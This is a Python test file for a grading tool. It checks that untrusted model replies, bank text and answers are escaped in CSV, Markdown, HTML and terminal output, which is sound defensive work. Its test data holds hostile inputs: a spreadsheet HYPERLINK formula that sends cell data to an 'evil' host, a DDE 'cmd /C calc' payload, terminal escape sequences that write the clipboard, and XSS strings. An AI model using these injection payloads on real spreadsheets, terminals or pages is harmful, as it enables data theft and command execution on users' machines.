"""Text we did not write (model replies, bank files, answers) cannot act where it lands: no live
formula in a CSV export, no raw HTML, link or heading in the Markdown report, no escape sequence
on the terminal, no Rich markup read out of a bank."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from markdown_it import MarkdownIt

from interviewer.store import Store
from reports.records import AnswerRecord, SessionRecord, SessionSettings
from reports.report import build_report, md_block, md_text, render
from rubrics.untrusted import FORMULA_START, csv_cell, strip_controls
from rubrics.verdict import Credit, Flag, KeyPointVerdict, MisconceptionHit, Verdict
from tests.helpers import make_question
from tests.hostile import ESCAPES, HOSTILE_BLOCK
from tests.hostile import HOSTILE_HTML as HOSTILE
from tests.llm_server import Reply, verdict_for
from tests.test_cli_e2e import run
from tests.test_cli_judging import EXAMPLE, QID, no_traceback
from tests.test_cli_judging import run as run_judging

def hostile_verdict(qid: str) -> Verdict:
    return Verdict(
        question_id=qid, judge="llm", model="openai/<b>m</b>", feedback=HOSTILE_BLOCK + "\n" + ESCAPES,
        key_points=[KeyPointVerdict(id="p1", text=HOSTILE, credit=Credit.full, evidence="alpha", rationale=HOSTILE)],
        misconceptions=[MisconceptionHit(id="m1", text=HOSTILE, penalty=1, evidence="alpha")],
        flags=[Flag(kind="manipulation", detail=HOSTILE), Flag(kind="judge_disagreement", detail="# heading\n" + HOSTILE)],
    )


def test_csv_cells_and_control_stripping_rules():
    assert [csv_cell(v) for v in ("=1+1", "+A", "-2", "@SUM(A1)", "\tx", "ok", 3)] == \
        ["'=1+1", "'+A", "'-2", "'@SUM(A1)", "'\tx", "ok", 3]
    assert "\x1b" not in strip_controls(ESCAPES) and "\x9b" not in strip_controls(ESCAPES)
    assert strip_controls("a\tb\nc") == "a\tb\nc"
    assert strip_controls(ESCAPES).split() == ["clear", "title", "clipboard", "red", "c1", "bell"]


def test_markdown_escaping_shows_text_as_text():
    md = MarkdownIt("commonmark", {"html": True}).enable("table")
    for text in (HOSTILE, "d_k * 2 and [x] | y ` z", "# not a heading", "1. not a list"):
        html = md.render(md_text(text))
        assert html.startswith("<p>") and "<img" not in html and "<script" not in html and "<a " not in html
    html = md.render(md_block(HOSTILE_BLOCK))
    assert html.count("<p>") == 1 and "<h1>" not in html and "<pre>" not in html and "<blockquote>" not in html
    assert "<ol>" not in html and "<hr" not in html and "<table>" not in html


def test_markdown_report_embeds_no_raw_html_from_model_or_bank_text():
    q = make_question("q-1", "attention")
    q.text.en = HOSTILE
    q.reference_answer.en = HOSTILE_BLOCK
    session = SessionRecord(id="s-1", settings=SessionSettings(count=1, judge="openai/x"), plan=["q-1"])
    answer = AnswerRecord(session_id="s-1", position=0, question_id="q-1", answer="alpha beta", id=1,
                          verdict=Verdict.ungraded("q-1", HOSTILE, judge="llm"))
    for verdict in (answer.verdict, hostile_verdict("q-1")):
        answer.verdict = verdict
        report = build_report(session, [answer], {"q-1": q})
        text = render(report, "md")
        assert "\x1b" not in text and "\x9b" not in text
        html = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
        for bad in ("<img", "<script", "<a ", "javascript:alert(4)'>", "<h1>pwned", "<h1># heading"):
            assert bad not in html, bad
        assert "onerror=alert(1)" in html  # shown as text, not dropped
        page = render(report, "html")  # the HTML report stays escaped
        assert "<img src=x" not in page and "<script>alert" not in page and "\x1b" not in page


def test_csv_export_has_no_live_formula_cells(tmp_path):
    store = Store.open(tmp_path)
    store.create_session(SessionRecord(id="s-1", settings=SessionSettings(count=1), plan=["attention-mha-mqa-gqa"]))
    aid = store.add_answer(AnswerRecord(session_id="s-1", position=0, question_id="attention-mha-mqa-gqa",
                                        answer='=HYPERLINK("http://evil/?"&A1,"click")'))
    v = hostile_verdict("attention-mha-mqa-gqa")
    v.feedback = "+cmd|' /C calc'!A0"
    v.reason = "@SUM(1+1)*cmd|' /C calc'!A0"
    store.save_verdict(aid, v)
    store.close()
    out = tmp_path / "all.csv"
    proc = run("export", "--format", "csv", "-o", str(out), data_dir=tmp_path)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    live = [c for row in rows for c in row if c.startswith(FORMULA_START)]
    assert live == []
    header, row = rows[0], rows[1]
    assert row[header.index("answer")] == '\'=HYPERLINK("http://evil/?"&A1,"click")'
    exported = json.loads(run("export", "--format", "json", "-o", "-", data_dir=tmp_path).stdout)
    assert exported[0]["answer"].startswith("=HYPERLINK")  # JSON keeps the value as it is


def test_grade_prints_no_escape_sequence_from_the_model(llm_server, tmp_path):
    def escaping(body: dict) -> Reply:
        return Reply.json(verdict_for(body, "full", holistic=9, feedback=ESCAPES))

    llm_server.set_default(escaping)
    answer = tmp_path / "a.txt"
    answer.write_text("Scaling by sqrt(d_k) keeps the softmax out of saturation. \x1b[2J", encoding="utf-8")
    proc = run_judging("grade", "-q", QID, "-a", str(answer), "--bank", EXAMPLE, "--judge", "openai/test-model",
                       "--api-base", llm_server.base_url, data_dir=tmp_path)
    no_traceback(proc)
    assert "clipboard" in proc.stdout
    assert "\x1b" not in proc.stdout + proc.stderr and "\x9b" not in proc.stdout


def test_bank_text_is_printed_as_text(tmp_path):
    bank = tmp_path / "mine.yaml"
    bank.write_text(
        "topic: mine\nquestions:\n"
        "  - id: tricky\n    difficulty: easy\n"
        '    text: {en: "What is E[m x] and [/bold] here? \\e[2J\\e]52;c;cHduZWQ=\\a"}\n'
        '    reference_answer: {en: "It is [bold]E[m x][/bold], \\e]0;title\\a really."}\n'
        "    rubric:\n      key_points:\n        - id: p\n          text: {en: \"[red]point[/red]\"}\n",
        encoding="utf-8",
    )
    shown = run("bank", "show", "tricky", "--bank", str(bank))
    no_traceback(shown)
    assert shown.returncode == 0, shown.stderr
    assert "E[m x] and [/bold] here?" in shown.stdout and "[bold]E[m x][/bold]" in shown.stdout
    assert "[red]point[/red]" in shown.stdout
    listed = run("bank", "list", "--topic", "mine", "--bank", str(bank))
    assert listed.returncode == 0 and "E[m x]" in listed.stdout
    for out in (shown.stdout, listed.stdout):
        assert "\x1b" not in out and "\x07" not in out
    assert Path(bank).exists()
